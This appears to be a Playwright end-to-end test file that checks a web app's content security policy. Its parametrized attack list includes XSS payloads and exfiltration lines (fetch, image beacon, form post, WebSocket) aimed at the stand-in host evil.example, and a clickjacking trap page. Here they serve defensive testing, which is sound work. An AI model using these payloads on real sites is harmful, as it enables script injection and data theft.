"""The content security policy in a real browser: every page works under it, and what it is against does not run."""

from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from e2e.conftest import Studio
from e2e.steps import connected, hears_ctrl_k, shows

Enter = Callable[..., Page]
SHEET = "#,name,original price,sale price\n" + "".join(f"{n},Hoop {n},$4{n}.99,$2{n}.99\n" for n in (1, 2, 3))

#: Before anything of the page: what the browser refuses is remembered over the pages of one tab.
LISTEN = """addEventListener("securitypolicyviolation", (event) => {
  const found = JSON.parse(sessionStorage.getItem("violations") ?? "[]");
  found.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber} ${event.sample}`);
  sessionStorage.setItem("violations", JSON.stringify(found));
});"""


def listening(page: Page) -> None:
    page.add_init_script(LISTEN)


def violations(page: Page) -> list[str]:
    found: list[str] = page.evaluate("JSON.parse(sessionStorage.getItem('violations') ?? '[]')")
    return found


@pytest.mark.parametrize("role", ["producer", "host"])
def test_a_show_runs_under_it(enter: Enter, role: str) -> None:
    page = enter(role, prepare=listening)
    connected(page)
    page.keyboard.press("ArrowDown")
    if role == "producer":
        shows(page, 2)
        page.keyboard.press("?")
        expect(page.get_by_role("dialog")).to_be_visible()
        page.keyboard.press("Escape")
        page.get_by_role("button", name="Show settings").or_(page.get_by_role("button", name="Settings")).first.click()
    assert violations(page) == []


@pytest.mark.parametrize(
    "path",
    [
        "/sessions",
        "/sessions/new",
        "/sessions/1/settings",
        "/imports",
        "/sessions/1/paper",
        "/sessions/1/history",
        "/sessions/2/producer",
        "/dev/look",
        "/dev/look/503",
        "/no/such/page",
        "/offline",
        "/login",
        "/studios/new",
        "/widgets",
        "/widgets/product_card",
    ],
)
def test_a_page_does_nothing_that_it_forbids(enter: Enter, studio: Studio, path: str) -> None:
    page = enter("producer", prepare=listening, path=path, worker=False)
    page.wait_for_load_state("networkidle")
    assert page.evaluate("document.styleSheets.length") > 0
    assert violations(page) == []


def test_signing_in_does_not_either(browser: Browser, studio: Studio) -> None:
    context = browser.new_context()
    page = context.new_page()
    listening(page)
    page.goto(f"{studio.base}/sign-in")
    page.get_by_role("button", name="Producer").click()
    expect(page.get_by_role("heading", level=1)).to_be_visible()
    hears_ctrl_k(page)
    page.keyboard.press("Control+k")
    expect(page.get_by_role("option").first).to_be_visible()
    assert violations(page) == []
    context.close()


def test_an_import_does_not_either(enter: Enter, studio: Studio, tmp_path: Path) -> None:
    page = enter("producer", prepare=listening, path="/imports")
    sheet = tmp_path / "list.csv"
    sheet.write_text(SHEET)
    page.get_by_label("File").set_input_files(sheet)
    page.get_by_label("or a new brand").fill("Under a policy")
    page.get_by_role("button", name="Preview").click()
    expect(page.get_by_text("Nothing is written yet.")).to_be_visible()
    assert violations(page) == []


def test_the_page_without_a_network_still_asks_by_itself(browser: Browser, studio: Studio) -> None:
    context = browser.new_context(color_scheme="light")
    page = context.new_page()
    listening(page)
    page.route("**/healthz", lambda route: route.abort())
    page.goto(f"{studio.base}/offline")
    assert page.evaluate("document.documentElement.dataset.theme") == "light"
    page.get_by_role("button", name="Try again").click()
    expect(page.get_by_role("status")).to_have_text("Still no connection.")
    assert violations(page) == []
    page.unroute("**/healthz")
    page.get_by_role("button", name="Try again").click()
    page.wait_for_url(f"{studio.base}/")
    context.close()


@pytest.mark.parametrize(
    ("attack", "directive"),
    [
        ("const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.body.append(s)",
         "script-src"),
        ("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = 1\">')", "script-src"),
        ("const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)",
         "script-src"),
        ("document.body.insertAdjacentHTML('beforeend', '<p style=\"color: red\">')", "style-src"),
        ("fetch('https://evil.example/', { method: 'POST', body: 'all of it' }).catch(() => 0)", "connect-src"),
        ("new Image().src = 'https://evil.example/?all-of-it'", "img-src"),
        ("document.body.insertAdjacentHTML('beforeend', '<iframe src=\"https://evil.example/\">')", "frame-src"),
        ("document.head.insertAdjacentHTML('beforeend', '<base href=\"https://evil.example/\">')", "base-uri"),
        ("document.body.insertAdjacentHTML('beforeend', '<form action=\"https://evil.example/\" method=post>');"
         "document.forms[document.forms.length - 1].submit()", "form-action"),
        ("try { new WebSocket('wss://evil.example/') } catch {}", "connect-src"),
    ],
)  # fmt: skip
def test_what_somebody_smuggles_in_does_not_run(browser: Browser, studio: Studio, attack: str, directive: str) -> None:
    context = browser.new_context(service_workers="block")
    page = context.new_page()
    listening(page)
    page.goto(studio.link("producer", 1))
    page.goto(f"{studio.base}/sessions")
    page.evaluate(f"() => {{ {attack} }}")
    page.wait_for_function("() => sessionStorage.getItem('violations') !== null")
    assert violations(page)[0].startswith(directive), violations(page)
    assert page.evaluate("window.ran") is None
    context.close()


def test_no_page_can_be_framed(browser: Browser, studio: Studio) -> None:
    context = browser.new_context()
    page = context.new_page()
    trap = f"<iframe src='{studio.base}/sign-in'></iframe><iframe src='http://evil.example/own'></iframe>"
    page.route(
        "http://evil.example/**",
        lambda route: route.fulfill(
            body=trap if "trap" in route.request.url else "<h1>Own</h1>", content_type="text/html"
        ),
    )
    page.goto("http://evil.example/trap")
    ours, own = page.frame_locator("iframe").nth(0), page.frame_locator("iframe").nth(1)
    expect(own.get_by_role("heading", name="Own")).to_be_visible()
    assert "sign-in" not in {frame.url.rpartition("/")[2] for frame in page.frames}
    expect(ours.get_by_role("heading", name="Sign in")).to_have_count(0)
    context.close()
